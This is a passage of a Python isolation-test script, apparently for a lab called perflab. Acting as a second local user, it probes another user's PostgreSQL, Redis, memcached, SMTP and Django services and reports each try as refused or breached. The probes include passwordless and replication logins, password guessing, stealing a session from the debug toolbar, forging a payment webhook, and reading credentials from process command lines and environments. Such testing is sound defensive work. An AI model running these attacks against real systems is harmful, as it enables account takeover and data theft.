"""Attack another learner's servers, site and files as a second local user; report every try.

Run as user B with the system Python (B has no virtualenv, so: standard library only). It knows
nothing of perflab: it finds user A's servers the way any local user can, from the kernel's
tables of sockets (/proc/net/tcp, tcp6, udp, udp6, unix) and from what it can see on disk, then
speaks each server's own protocol to it. Every try is one row: target, what was tried, and
REFUSED, BREACH, NOTE (seen, harmless) or FAILED (the test itself could not decide).

    attack.py listeners --out FILE    listening sockets now (the driver's baseline, any user)
    attack.py attack --owner A --baseline FILE --entries FILE --expect FILE --report FILE
"""

from __future__ import annotations

import argparse
import base64
import contextlib
import getpass
import hashlib
import hmac
import html
import http.client
import ipaddress
import json
import os
import pwd
import re
import socket
import ssl
import stat
import struct
import sys
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from http.cookies import SimpleCookie
from pathlib import Path
from urllib.parse import urlencode

TIMEOUT = 3.0
"""Seconds one network exchange may take; a silent server is refused, never waited on."""

PG_PROTOCOL = 196608  # 3.0
PG_SSL_REQUEST = 80877103
PG_AUTH_NAMES = {3: "cleartext password", 5: "MD5 password", 10: "SASL (SCRAM)"}
PASSWORD_GUESSES = ("admin", "password", "admin123", "perflab")
SHARED_TEMP = ("/tmp", "/var/tmp", "/dev/shm")
# Options that carry a password on a command line (redis-server's, redis-cli's, libpq's).
CREDENTIAL_OPTION = re.compile(
    r"(?:requirepass|masterauth|--pass(?:word)?|password=|PGPASSWORD=|redis-cli\S*\s.*?-a)"
    r"[\s=]+(\S+)",
    re.IGNORECASE,
)
REFUSED, BREACH, NOTE, FAILED = "REFUSED", "BREACH", "NOTE", "FAILED"


@dataclass(frozen=True)
class Endpoint:
    """A listening socket: TCP (host, port) or a Unix path ("@name" for the abstract space)."""

    kind: str
    host: str = ""
    port: int = 0
    path: str = ""

    @property
    def label(self) -> str:
        if self.kind == "unix":
            return f"unix {self.path}"
        host = f"[{self.host}]" if ":" in self.host else self.host
        return f"tcp {host}:{self.port}"

    def connect(self, timeout: float = TIMEOUT) -> socket.socket:
        if self.kind == "tcp":
            return socket.create_connection((self.host, self.port), timeout=timeout)
        sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        sock.settimeout(timeout)
        address = "\0" + self.path[1:] if self.path.startswith("@") else self.path
        try:
            sock.connect(address)
        except OSError:
            sock.close()
            raise
        return sock


@dataclass
class Report:
    """Collect rows and write them as tab-separated lines the driver prints as a table."""

    rows: list[tuple[str, str, str, str]] = field(default_factory=list)

    def add(self, target: str, tried: str, result: str, detail: str = "") -> None:
        clean = [" ".join(str(text).split()) for text in (target, tried, result, detail)]
        self.rows.append((clean[0], clean[1], clean[2], clean[3][:160]))

    def write(self, path: Path) -> None:
        path.write_text("".join("\t".join(row) + "\n" for row in self.rows))


# --- what any local user can see ----------------------------------------------------------------


def tcp_listeners() -> dict[tuple[str, int], int]:
    """Return {(address, port): owner uid} of TCP sockets listening on loopback or any address."""
    return _inet_sockets(("/proc/net/tcp", "/proc/net/tcp6"), state="0A")  # 0A: LISTEN


def udp_sockets() -> dict[tuple[str, int], int]:
    """Return {(address, port): owner uid} of bound UDP sockets on loopback or any address."""
    return _inet_sockets(("/proc/net/udp", "/proc/net/udp6"), state="07")  # 07: bound


def _inet_sockets(tables: tuple[str, ...], *, state: str) -> dict[tuple[str, int], int]:
    found: dict[tuple[str, int], int] = {}
    for table in tables:
        with contextlib.suppress(FileNotFoundError):
            for line in Path(table).read_text().splitlines()[1:]:
                fields = line.split()
                if len(fields) < 10 or fields[3] != state:
                    continue
                address_hex, port_hex = fields[1].split(":")
                address = _proc_address(address_hex)
                if _reachable_locally(address):
                    found[(str(address), int(port_hex, 16))] = int(fields[7])
    return found


def _proc_address(text: str) -> ipaddress.IPv4Address | ipaddress.IPv6Address:
    # The kernel prints each 32-bit word in host (little-endian) byte order.
    raw = bytes.fromhex(text)
    words = b"".join(raw[i : i + 4][::-1] for i in range(0, len(raw), 4))
    return ipaddress.ip_address(words)


def _reachable_locally(address: ipaddress.IPv4Address | ipaddress.IPv6Address) -> bool:
    if isinstance(address, ipaddress.IPv6Address) and address.ipv4_mapped is not None:
        address = address.ipv4_mapped
    return address.is_loopback or address.is_unspecified


def unix_listeners() -> set[str]:
    """Return the paths (or "@abstract" names) of listening Unix stream sockets, all users'."""
    found = set()
    for line in Path("/proc/net/unix").read_text().splitlines()[1:]:
        fields = line.split(None, 7)
        if len(fields) < 8:
            continue  # unbound: no name to connect to
        flags, kind = int(fields[3], 16), fields[4]
        if flags & 0x10000 and kind == "0001":  # __SO_ACCEPTCON, SOCK_STREAM
            found.add(fields[7])
    return found


def connect_address(address: str) -> str:
    """Return where to connect for a socket listening on `address` (any address: loopback)."""
    if address == "0.0.0.0":
        return "127.0.0.1"
    if address == "::":
        return "::1"
    return address


# --- talking to a socket ------------------------------------------------------------------------


def exchange(
    endpoint: Endpoint, payload: bytes, done: Callable[[bytes], bool], limit: int = 65536
) -> bytes:
    """Send `payload` on a fresh connection; return what came back until `done` or TIMEOUT."""
    deadline = time.monotonic() + TIMEOUT
    data = b""
    with endpoint.connect() as sock:
        sock.sendall(payload)
        while not done(data) and len(data) < limit:
            remaining = deadline - time.monotonic()
            if remaining <= 0:
                break
            sock.settimeout(remaining)
            try:
                chunk = sock.recv(65536)
            except (TimeoutError, ConnectionResetError):
                break
            if not chunk:
                break
            data += chunk
    return data


def first_line(data: bytes) -> str:
    return data.split(b"\r\n", 1)[0].decode(errors="replace")[:80]


# --- PostgreSQL ---------------------------------------------------------------------------------


def pg_message(sock: socket.socket, deadline: float) -> tuple[bytes, bytes]:
    """Read one backend message: (type byte, body)."""
    head = _read_exactly(sock, 5, deadline)
    length = struct.unpack("!i", head[1:5])[0]
    if length < 4 or length > 1 << 20:
        raise ValueError(f"not a PostgreSQL message (type {head[:1]!r}, length {length})")
    return head[:1], _read_exactly(sock, length - 4, deadline)


def _read_exactly(sock: socket.socket, size: int, deadline: float) -> bytes:
    data = b""
    while len(data) < size:
        remaining = deadline - time.monotonic()
        if remaining <= 0:
            raise TimeoutError("no complete answer")
        sock.settimeout(remaining)
        chunk = sock.recv(size - len(data))
        if not chunk:
            raise ConnectionError("connection closed")
        data += chunk
    return data


def pg_startup_packet(role: str, database: str, *, replication: bool = False) -> bytes:
    # replication=true asks for a physical replication session, as pg_basebackup does.
    extra = "replication\0true\0" if replication else ""
    params = f"user\0{role}\0database\0{database}\0{extra}\0".encode()
    return struct.pack("!ii", 8 + len(params), PG_PROTOCOL) + params


def pg_error_text(body: bytes) -> str:
    fields = {part[:1]: part[1:].decode(errors="replace") for part in body.split(b"\0") if part}
    return f"{fields.get(b'S', 'ERROR')}: {fields.get(b'M', '?')}"


def pg_try_role(endpoint: Endpoint, role: str, *, replication: bool = False,
                database: str = "postgres") -> tuple[str, str]:
    """Start a session as `role`; AuthenticationOk without a password is the breach."""
    deadline = time.monotonic() + TIMEOUT
    with endpoint.connect() as sock:
        sock.sendall(pg_startup_packet(role, database, replication=replication))
        kind, body = pg_message(sock, deadline)
        if kind == b"E" and "encryption" in pg_error_text(body):
            return pg_try_role_over_ssl(endpoint, role, replication=replication,
                                        database=database)
        return pg_verdict(sock, kind, body, deadline)


def pg_try_role_over_ssl(endpoint: Endpoint, role: str, *, replication: bool = False,
                         database: str = "postgres") -> tuple[str, str]:
    # Only when the server turned a plain connection away for wanting encryption.
    deadline = time.monotonic() + TIMEOUT
    with endpoint.connect() as raw:
        raw.sendall(struct.pack("!ii", 8, PG_SSL_REQUEST))
        if _read_exactly(raw, 1, deadline) != b"S":
            return REFUSED, "wants encryption, refuses SSL"
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        with context.wrap_socket(raw) as sock:
            sock.sendall(pg_startup_packet(role, database, replication=replication))
            kind, body = pg_message(sock, deadline)
            return pg_verdict(sock, kind, body, deadline)


def pg_verdict(sock: socket.socket, kind: bytes, body: bytes, deadline: float) -> tuple[str, str]:
    if kind == b"E":
        return REFUSED, pg_error_text(body)
    if kind != b"R" or len(body) < 4:
        return FAILED, f"unexpected first message {kind!r}"
    code = struct.unpack("!i", body[:4])[0]
    if code != 0:
        return REFUSED, f"asks for a {PG_AUTH_NAMES.get(code, f'code {code}')}"
    return BREACH, "AuthenticationOk without a password; " + pg_list_databases(sock, deadline)


def pg_list_databases(sock: socket.socket, deadline: float) -> str:
    """Show what the session reaches: the database names (the learner's copies among them)."""
    try:
        while True:  # parameters, key data, then ReadyForQuery (or the reason there is none)
            kind, body = pg_message(sock, deadline)
            if kind == b"E":
                return f"then {pg_error_text(body)}"
            if kind == b"Z":
                break
        query = b"SELECT datname FROM pg_database WHERE NOT datistemplate ORDER BY 1\0"
        sock.sendall(b"Q" + struct.pack("!i", 4 + len(query)) + query)
        names = []
        while True:
            kind, body = pg_message(sock, deadline)
            if kind == b"D":
                size = struct.unpack("!i", body[2:6])[0]
                names.append(body[6 : 6 + size].decode(errors="replace"))
            elif kind in (b"Z", b"E"):
                break
        sock.sendall(b"X" + struct.pack("!i", 4))
    except (OSError, ValueError) as exc:
        return f"then {exc}"
    return f"sees databases: {', '.join(names)}"


# --- memcached and Redis ------------------------------------------------------------------------

MEMCACHED_FINAL = re.compile(
    rb"(?:^|\r\n)(?:END|STORED|NOT_STORED|EXISTS|NOT_FOUND|ERROR|CLIENT_ERROR[^\r]*|"
    rb"SERVER_ERROR[^\r]*|BUSY[^\r]*|VERSION[^\r]*)\r\n$"
)
MEMCACHED_TRIES = (
    ("stats", b"stats\r\n"),
    ("get secret", b"get secret\r\n"),
    ("get :1:secret (Django's key)", b"get :1:secret\r\n"),
    ("lru_crawler metadump all", b"lru_crawler metadump all\r\n"),
    ("set poisoned (write)", b"set poisoned 0 0 1\r\nx\r\n"),
)


def memcached_verdict(reply: bytes) -> tuple[str, str]:
    line = first_line(reply)
    if not reply:
        return REFUSED, "no answer"
    if line.startswith(("ERROR", "CLIENT_ERROR", "SERVER_ERROR")):
        return REFUSED, line
    secret = " (holds A's secret)" if b"A-SECRET" in reply else ""
    return BREACH, f"accepted: {line}{secret}"


def memcached_udp_verdict(host: str, port: int) -> tuple[str, str]:
    family = socket.AF_INET6 if ":" in host else socket.AF_INET
    with socket.socket(family, socket.SOCK_DGRAM) as sock:
        sock.settimeout(TIMEOUT)
        # UDP frame header: request id, sequence number, datagrams in total, reserved.
        sock.sendto(struct.pack("!HHHH", 1, 0, 1, 0) + b"stats\r\n", (host, port))
        try:
            reply = sock.recv(65536)
        except OSError as exc:
            return REFUSED, f"no answer ({type(exc).__name__})"
    return memcached_verdict(reply[8:])


def resp_complete(data: bytes) -> bool:
    """Return True once `data` holds one whole RESP reply."""
    return _resp_end(data, 0) is not None


def _resp_end(data: bytes, start: int) -> int | None:
    end = data.find(b"\r\n", start)
    if end < 0:
        return None
    kind, value = data[start : start + 1], data[start + 1 : end]
    after = end + 2
    if kind not in (b"$", b"*") or not value.lstrip(b"-").isdigit():
        return after  # a one-line reply (+, -, :), or not RESP: nothing more to wait for
    size = int(value)
    if kind == b"$":
        return after if size < 0 else (after + size + 2 if len(data) >= after + size + 2 else None)
    for _ in range(max(size, 0)):
        found = _resp_end(data, after)
        if found is None:
            return None
        after = found
    return after


def resp_command(*words: str) -> bytes:
    parts = [f"*{len(words)}\r\n".encode()]
    for word in words:
        encoded = word.encode()
        parts.append(b"$%d\r\n%s\r\n" % (len(encoded), encoded))
    return b"".join(parts)


def redis_verdict(reply: bytes) -> tuple[str, str]:
    line = first_line(reply)
    if not reply:
        return REFUSED, "no answer"
    if line.startswith("-"):
        return REFUSED, line
    if line.startswith("*"):
        return BREACH, f"answered an array of {line[1:]} keys" + (
            " (A's secret among them)" if b"secret" in reply else ""
        )
    if line.startswith("$"):
        return BREACH, f"answered a {line[1:]}-byte value" + (
            " (A's secret)" if b"A-SECRET" in reply else "")
    return BREACH, f"answered {line}"


# --- HTTP ---------------------------------------------------------------------------------------


class UnixHTTPConnection(http.client.HTTPConnection):
    """HTTP over a Unix socket, for a site served that way."""

    def __init__(self, path: str) -> None:
        super().__init__("localhost", timeout=TIMEOUT)
        self.unix_path = path

    def connect(self) -> None:
        self.sock = Endpoint("unix", path=self.unix_path).connect()


@dataclass
class Response:
    status: int
    location: str
    body: str
    cookies: dict[str, str]


def http_request(
    endpoint: Endpoint,
    method: str,
    path: str,
    *,
    cookies: dict[str, str] | None = None,
    form: dict[str, str] | None = None,
    headers: dict[str, str] | None = None,
) -> Response:
    """Send one request (no redirects followed) and return status, Location, body and cookies."""
    if endpoint.kind == "tcp":
        conn: http.client.HTTPConnection = http.client.HTTPConnection(
            endpoint.host, endpoint.port, timeout=TIMEOUT
        )
        host = f"127.0.0.1:{endpoint.port}"
    else:
        conn = UnixHTTPConnection(endpoint.path)
        host = "localhost"
    headers = {"Host": host, **(headers or {})}
    if cookies:
        headers["Cookie"] = "; ".join(f"{k}={v}" for k, v in cookies.items())
    body = None
    if form is not None:
        body = urlencode(form)
        headers["Content-Type"] = "application/x-www-form-urlencoded"
        headers["Referer"] = f"http://{host}{path}"
    try:
        conn.request(method, path, body=body, headers=headers)
        response = conn.getresponse()
        text = response.read(2_000_000).decode(errors="replace")
        jar: SimpleCookie = SimpleCookie()
        for header in response.headers.get_all("Set-Cookie") or []:
            jar.load(header)
        return Response(
            response.status,
            response.getheader("Location") or "",
            text,
            {name: morsel.value for name, morsel in jar.items()},
        )
    finally:
        conn.close()


def admin_login(endpoint: Endpoint, username: str, password: str) -> tuple[str, str]:
    """Log into Django's admin through its login form; a working /admin/ page is success."""
    page = http_request(endpoint, "GET", "/admin/login/?next=/admin/")
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', page.body)
    csrf = page.cookies.get("csrftoken")
    if page.status in (301, 302, 401, 403, 404):
        return REFUSED, f"no login form for B (status {page.status})"
    if page.status != 200 or token is None or csrf is None:
        return FAILED, f"inconclusive: no login form to try (status {page.status})"
    form = {"csrfmiddlewaretoken": token.group(1), "username": username,
            "password": password, "next": "/admin/"}
    answer = http_request(endpoint, "POST", "/admin/login/?next=/admin/",
                          cookies={"csrftoken": csrf}, form=form)
    if answer.status == 200:
        return REFUSED, "wrong password (form shown again)"
    session = answer.cookies.get("sessionid")
    if answer.status != 302 or session is None:
        return FAILED, f"unexpected answer {answer.status} {answer.location}"
    if admin_page_works(endpoint, session):
        return BREACH, f"logged in as {username!r} with password {password!r}"
    return FAILED, "redirected with a session, but /admin/ did not open"


def admin_page_works(endpoint: Endpoint, session: str) -> bool:
    page = http_request(endpoint, "GET", "/admin/", cookies={"sessionid": session})
    return page.status == 200 and "/admin/logout/" in page.body


def toolbar_verdict(response: Response) -> tuple[str, str]:
    if response.status in (403, 404):
        return REFUSED, f"status {response.status}"
    if response.status in (301, 302) and "login" in response.location:
        return REFUSED, f"redirected to {response.location}"
    return BREACH, f"status {response.status}: the toolbar answers anyone"


def steal_session_from_toolbar(endpoint: Endpoint) -> tuple[str, str]:
    """List the toolbar's stored requests, read their cookies, and open /admin/ with them."""
    listing = http_request(endpoint, "GET", "/__debug__/history_refresh/?request_id=x&store_id=x")
    if listing.status != 200:
        return REFUSED, f"no request history (status {listing.status})"
    try:
        request_ids = [item["id"] for item in json.loads(listing.body)["requests"]]
    except (ValueError, KeyError, TypeError):
        return FAILED, "history answered, but not with the list of requests"
    for request_id in request_ids[-30:]:
        panel = http_request(
            endpoint, "GET",
            f"/__debug__/render_panel/?request_id={request_id}&store_id={request_id}"
            f"&panel_id=RequestPanel",
        )
        with contextlib.suppress(ValueError, KeyError, TypeError):
            text = re.sub(r"<[^>]+>", " ", html.unescape(json.loads(panel.body)["content"]))
            session = re.search(r"'sessionid'\s+'([a-z0-9]{20,})'", text)
            if session and admin_page_works(endpoint, session.group(1)):
                return BREACH, (f"read A's session cookie in stored request {request_id} "
                                f"({len(request_ids)} stored) and opened /admin/ as A")
    return REFUSED, f"{len(request_ids)} stored requests, no usable session cookie"


# --- the attack on one endpoint -----------------------------------------------------------------


def identify(endpoint: Endpoint) -> str | None:
    """Return which protocol answers: http, redis, memcached, postgresql or smtp."""
    probes: tuple[tuple[str, bytes, Callable[[bytes], bool]], ...] = (
        ("http", b"GET / HTTP/1.0\r\nHost: 127.0.0.1\r\n\r\n", lambda d: d.startswith(b"HTTP/")),
        ("redis", resp_command("PING"), lambda d: d[:1] in (b"+", b"-")),
        ("memcached", b"version\r\n",
         lambda d: d.startswith((b"VERSION ", b"CLIENT_ERROR", b"SERVER_ERROR"))),
        ("postgresql", pg_startup_packet("postgres", "postgres"),
         lambda d: d[:1] in (b"R", b"E") and len(d) >= 9),
        ("smtp", b"EHLO attacker\r\n", lambda d: d.startswith(b"220")),
    )
    for name, payload, matches in probes:
        try:
            reply = exchange(endpoint, payload, lambda d: b"\n" in d or len(d) >= 9)
        except OSError:
            continue
        if matches(reply):
            return name
    return None


def attack_endpoint(endpoint: Endpoint, roles: list[str], guesses: list[str],
                    report: Report) -> None:
    target = endpoint.label
    is_pg_socket = endpoint.kind == "unix" and Path(endpoint.path).name.startswith(".s.PGSQL.")
    try:
        endpoint.connect().close()
    except OSError as exc:
        report.add(target, "connect", REFUSED, f"{type(exc).__name__}: {exc.strerror or exc}")
        return
    protocol = "postgresql" if is_pg_socket else identify(endpoint)
    if protocol is None:
        report.add(target, "connect, then speak HTTP/Redis/memcached/PostgreSQL/SMTP", NOTE,
                   "accepted the connection, answered none of them")
        return
    target = f"{target} ({protocol})"
    attempts: dict[str, Callable[[], None]] = {
        "postgresql": lambda: attack_postgresql(endpoint, target, roles, report),
        "memcached": lambda: attack_memcached(endpoint, target, report),
        "redis": lambda: attack_redis(endpoint, target, guesses, report),
        "http": lambda: attack_site(endpoint, target, guesses, report),
        "smtp": lambda: attack_smtp(endpoint, target, guesses, report),
    }
    attempts[protocol]()


def attack_postgresql(endpoint: Endpoint, target: str, roles: list[str], report: Report) -> None:
    for role in roles:
        for replication in (False, True):
            # A replication session streams every database of the server (a base backup).
            tried = (f"replication session as role {role!r} (as pg_basebackup asks)"
                     if replication else f"startup as role {role!r}, database 'postgres'")
            try:
                result, detail = pg_try_role(endpoint, role, replication=replication)
            except (OSError, ValueError) as exc:
                result, detail = REFUSED, f"{type(exc).__name__}: {exc}"
            report.add(target, tried, result, detail)
        # PgBouncer's admin console is the database "pgbouncer" (SHOW, PAUSE, KILL, SHUTDOWN);
        # on a plain PostgreSQL it is a database that does not exist.
        try:
            result, detail = pg_try_role(endpoint, role, database="pgbouncer")
        except (OSError, ValueError) as exc:
            result, detail = REFUSED, f"{type(exc).__name__}: {exc}"
        report.add(target, f"startup as role {role!r}, database 'pgbouncer' (PgBouncer's "
                   "admin console)", result, detail)


def attack_memcached(endpoint: Endpoint, target: str, report: Report) -> None:
    for tried, payload in MEMCACHED_TRIES:
        try:
            reply = exchange(endpoint, payload, lambda d: MEMCACHED_FINAL.search(d) is not None)
            result, detail = memcached_verdict(reply)
        except OSError as exc:
            result, detail = REFUSED, f"{type(exc).__name__}: {exc}"
        report.add(target, tried, result, detail)


def attack_redis(endpoint: Endpoint, target: str, guesses: list[str], report: Report) -> None:
    needs_auth = False
    for tried, words in (("PING", ("PING",)), ("KEYS *", ("KEYS", "*")),
                         ("GET :1:secret (Django's key)", ("GET", ":1:secret"))):
        try:
            reply = exchange(endpoint, resp_command(*words), resp_complete)
            result, detail = redis_verdict(reply)
        except OSError as exc:
            result, detail = REFUSED, f"{type(exc).__name__}: {exc}"
        needs_auth = needs_auth or "NOAUTH" in detail
        report.add(target, tried, result, detail)
    if not needs_auth:
        return
    for guess in guesses:
        try:
            reply = exchange(endpoint, resp_command("AUTH", guess) + resp_command("PING"),
                             lambda d: d.count(b"\r\n") >= 2)
        except OSError as exc:
            report.add(target, f"AUTH {guess!r}", REFUSED, f"{type(exc).__name__}: {exc}")
            continue
        ok = reply.startswith(b"+OK")
        report.add(target, f"AUTH {guess!r}, then PING", BREACH if ok else REFUSED,
                   first_line(reply))


def smtp_final_lines(data: bytes) -> list[bytes]:
    """Return the last line of each SMTP reply in `data` ("250 OK", not "250-SIZE ...")."""
    return [line for line in data.split(b"\r\n") if line[3:4] == b" "]


def smtp_last_reply(endpoint: Endpoint, *commands: str) -> str:
    """Send `commands` after the greeting on a fresh connection; return the last reply line."""
    payload = b"".join(command.encode() + b"\r\n" for command in commands)
    lines = smtp_final_lines(
        exchange(endpoint, payload, lambda d: len(smtp_final_lines(d)) > len(commands))
    )
    return lines[-1].decode(errors="replace")[:80] if len(lines) > len(commands) else ""


def attack_smtp(endpoint: Endpoint, target: str, guesses: list[str], report: Report) -> None:
    """Send mail through A's SMTP server without its password, then guess the password.

    The user name is no secret (perflab's SmtpServer always uses "shop"); the password is.
    """
    tries = [("MAIL FROM without logging in", ("EHLO attacker", "MAIL FROM:<b@example.com>"),
              "250")]
    for guess in guesses:
        token = base64.b64encode(f"\0shop\0{guess}".encode()).decode()
        tries.append((f"AUTH PLAIN 'shop' / {guess!r}", ("EHLO attacker", f"AUTH PLAIN {token}"),
                      "235"))
    for tried, commands, success in tries:
        try:
            reply = smtp_last_reply(endpoint, *commands)
        except OSError as exc:
            report.add(target, tried, REFUSED, f"{type(exc).__name__}: {exc}")
            continue
        report.add(target, tried, BREACH if reply.startswith(success) else REFUSED,
                   reply or "no reply")


def attack_site(endpoint: Endpoint, target: str, guesses: list[str], report: Report) -> None:
    def attempt(tried: str, step: Callable[[], tuple[str, str]]) -> None:
        try:
            result, detail = step()
        except (OSError, http.client.HTTPException) as exc:
            # A site that answered identify() but fails now: the try proves nothing either way.
            result, detail = FAILED, f"inconclusive: {type(exc).__name__}: {exc}"
        report.add(target, tried, result, detail)

    def anonymous_home() -> tuple[str, str]:
        page = http_request(endpoint, "GET", "/")
        if page.status != 200:
            return NOTE, f"status {page.status}"
        if "djDebug" in page.body:
            return BREACH, "the debug toolbar is shown to an anonymous visitor"
        return REFUSED, "status 200, no debug toolbar"

    attempt("GET / anonymously: is the debug toolbar there?", anonymous_home)
    attempt("GET /admin/login/", lambda: (
        NOTE, f"status {http_request(endpoint, 'GET', '/admin/login/').status}; "
              f"a login page may be public, logging in may not"))
    for path in ("/__debug__/history_sidebar/?store_id=x&request_id=x",
                 "/__debug__/render_panel/?store_id=x&request_id=x&panel_id=RequestPanel",
                 "/__debug__/history_refresh/?store_id=x&request_id=x"):
        attempt(f"GET {path}", lambda path=path: toolbar_verdict(
            http_request(endpoint, "GET", path)))
    attempt("take A's session from the toolbar's request history",
            lambda: steal_session_from_toolbar(endpoint))
    for username, password in [("admin", guess) for guess in guesses]:
        attempt(f"log into /admin/ as {username} / {password}",
                lambda u=username, p=password: admin_login(endpoint, u, p))
    for secret in ["", *guesses]:
        attempt(f"POST the payment webhook for order 1 signed with {secret!r}",
                lambda secret=secret: webhook_verdict(endpoint, secret))


def webhook_verdict(endpoint: Endpoint, secret: str) -> tuple[str, str]:
    """Tell A's shop that order 1 is paid, as the payment provider would, with a guessed key."""
    path = "/webhooks/paid/1/"
    signature = hmac.new(secret.encode(), path.encode(), hashlib.sha256).hexdigest()
    headers = {"X-Shop-Signature": signature} if secret else {}
    answer = http_request(endpoint, "POST", path, headers=headers)
    if answer.status == 200:
        return BREACH, "the shop took the call: order 1 is paid and its customer mailed"
    if answer.status in (403, 404, 405):
        return REFUSED, f"status {answer.status}"
    return NOTE, f"status {answer.status}"


# --- files and processes ------------------------------------------------------------------------


def walk_private(root: Path, *, listing_is_breach: bool, limit: int = 400) -> tuple[str, str]:
    """Try to list and read everything under `root`; return the verdict for the whole tree.

    Reading any non-empty file, or listing a PostgreSQL data folder, is a breach. Listing is a
    breach too inside the learner's state folder (file names there name labs and databases);
    in the shared temporary folders, a listable folder whose contents stay closed is only noted.
    """
    try:
        info = root.lstat()
    except OSError as exc:
        return REFUSED, f"stat: {exc.strerror}"
    if stat.S_ISSOCK(info.st_mode):
        return NOTE, "a socket (tried under 'connect')"
    if stat.S_ISLNK(info.st_mode):
        return NOTE, "a symlink (not followed)"
    if not stat.S_ISDIR(info.st_mode):
        return read_verdict(root)
    read: list[str] = []
    listed: list[str] = []
    for folder, files, pg_data in _walk(root, limit):
        listed.append(str(folder))
        if pg_data:
            return BREACH, f"listed a PostgreSQL data folder: {folder}"
        for path in files:
            if read_verdict(path)[0] == BREACH:
                read.append(str(path))
    if read:
        return BREACH, f"read {len(read)} file(s), e.g. {read[0]}"
    if not listed:
        return REFUSED, "cannot list it"
    if listing_is_breach:
        return BREACH, f"listed {len(listed)} folder(s), e.g. {listed[0]}"
    return NOTE, f"listed {len(listed)} world-readable folder(s); nothing inside could be read"


def _walk(root: Path, limit: int) -> Iterator[tuple[Path, list[Path], bool]]:
    pending, seen = [root], 0
    while pending and seen < limit:
        folder = pending.pop()
        try:
            entries = list(folder.iterdir())
        except OSError:
            continue
        seen += len(entries)
        files = []
        for entry in entries:
            with contextlib.suppress(OSError):
                mode = entry.lstat().st_mode
                if stat.S_ISDIR(mode):
                    pending.append(entry)
                elif stat.S_ISREG(mode):
                    files.append(entry)
        yield folder, files, any(entry.name == "PG_VERSION" for entry in entries)


def read_verdict(path: Path) -> tuple[str, str]:
    try:
        with path.open("rb") as handle:
            data = handle.read(4096)
    except OSError as exc:
        return REFUSED, f"read: {exc.strerror}"
    if not data:
        return NOTE, "readable, but empty"
    return BREACH, f"read {len(data)} bytes of {path}"


def new_temp_entries(
    uids: set[int], before: set[str], ignore: set[str]
) -> list[tuple[Path, int]]:
    """Return (entry, owner) in the shared temp folders, owned by A, made since `before`."""
    found = []
    for top in SHARED_TEMP:
        with contextlib.suppress(OSError):
            for entry in sorted(Path(top).iterdir()):
                if str(entry) in before or str(entry) in ignore:
                    continue
                with contextlib.suppress(OSError):
                    uid = entry.lstat().st_uid
                    if uid in uids:
                        found.append((entry, uid))
    return found


def processes_of(uids: set[int], since: float) -> list[tuple[int, list[str]]]:
    """Return (pid, argv) of those users' processes started after `since`: ps shows them all."""
    boot_line = next(line for line in Path("/proc/stat").read_text().splitlines()
                     if line.startswith("btime "))
    boot = float(boot_line.split()[1])
    ticks = os.sysconf("SC_CLK_TCK")
    found = []
    for proc in Path("/proc").iterdir():
        if not proc.name.isdigit():
            continue
        with contextlib.suppress(OSError, ValueError):
            # Field 22 of stat, counted after the command name (which may hold spaces).
            started = boot + int((proc / "stat").read_text().rsplit(")", 1)[1].split()[19]) / ticks
            if proc.stat().st_uid in uids and started >= since - 1:
                argv = (proc / "cmdline").read_bytes().decode(errors="replace").split("\0")
                found.append((int(proc.name), [word for word in argv if word]))
    return found


def attack_processes(
    processes: list[tuple[int, list[str]]], uids: set[int], report: Report
) -> list[str]:
    """Look for passwords on A's command lines and in their environments; return what was found."""
    target = f"{len(processes)} processes of A" + (" and postgres" if len(uids) > 1 else "")
    leaked = []
    for _, argv in processes:
        leaked += CREDENTIAL_OPTION.findall(" ".join(argv))
    if leaked:
        report.add(target, "read command lines (as ps does) for passwords", BREACH,
                   f"{len(leaked)} credential(s) on a command line")
    else:
        report.add(target, "read command lines (as ps does) for passwords", REFUSED,
                   "no credential on any command line")
    readable = []
    for pid, _ in processes:
        with contextlib.suppress(OSError):
            if Path(f"/proc/{pid}/environ").read_bytes():
                readable.append(pid)
    report.add(target, "read /proc/PID/environ", BREACH if readable else REFUSED,
               f"readable for pids {readable[:5]}" if readable else "permission denied for all")
    return leaked


# --- the whole attack ---------------------------------------------------------------------------


def run_attack(args: argparse.Namespace, report: Report) -> None:
    """Try everything against A, adding one row per try to `report`."""
    owner = pwd.getpwnam(args.owner)
    me = getpass.getuser()
    theirs = {owner.pw_uid}
    if owner.pw_uid == 0:  # root's PostgreSQL runs as `postgres`: its files and sockets are A's
        with contextlib.suppress(KeyError):
            theirs.add(pwd.getpwnam("postgres").pw_uid)
    baseline = json.loads(Path(args.baseline).read_text())
    before_tcp = {(address, port) for address, port in baseline["tcp"]}
    before_unix = set(baseline["unix"])
    before_entries = {line.split("\t")[0] for line in
                      Path(args.entries).read_text().splitlines() if line}
    ignore = set(args.ignore)

    processes = processes_of(theirs, baseline["time"])
    leaked = attack_processes(processes, theirs, report)
    guesses = list(dict.fromkeys([*PASSWORD_GUESSES, args.owner, *leaked]))
    roles = list(dict.fromkeys(["postgres", "root", args.owner, "learner", me]))

    attacked: set[str] = set()
    for (address, port), uid in sorted(tcp_listeners().items()):
        if (address, port) in before_tcp:
            continue
        endpoint = Endpoint("tcp", host=connect_address(address), port=port)
        if uid not in theirs:
            report.add(f"tcp {address}:{port}", "attack", NOTE, f"skipped: uid {uid}, not A's")
            continue
        attack_endpoint(endpoint, roles, guesses, report)
        attacked.add(f"tcp:{port}")
    before_udp = {(address, port) for address, port in baseline["udp"]}
    for (address, port), uid in sorted(udp_sockets().items()):
        if (address, port) not in before_udp and uid in theirs:
            report.add(f"udp {address}:{port}", "memcached 'stats' over UDP",
                       *memcached_udp_verdict(connect_address(address), port))
    for path in sorted(unix_listeners() - before_unix):
        if not path.startswith("@"):
            with contextlib.suppress(OSError):
                if os.lstat(path).st_uid == os.getuid():
                    continue  # B's own
        attack_endpoint(Endpoint("unix", path=path), roles, guesses, report)
        attacked.add(f"unix:{path}")

    state = Path(owner.pw_dir) / ".cache" / "perflab"
    report.add(f"{state} (A's state folder)", "list and read everything under it",
               *walk_private(state, listing_is_breach=True))
    entries = new_temp_entries(theirs, before_entries, ignore)
    for entry, uid in entries:
        report.add(f"{entry} (uid {uid})", "list and read everything under it",
                   *walk_private(entry, listing_is_breach=False))
    if not entries:
        report.add(" ".join(SHARED_TEMP), "find A's new entries there", NOTE,
                   "A made none that are still there")
    run_user = Path("/run/user") / str(owner.pw_uid)
    if run_user.exists():
        report.add(str(run_user), "list and read everything under it",
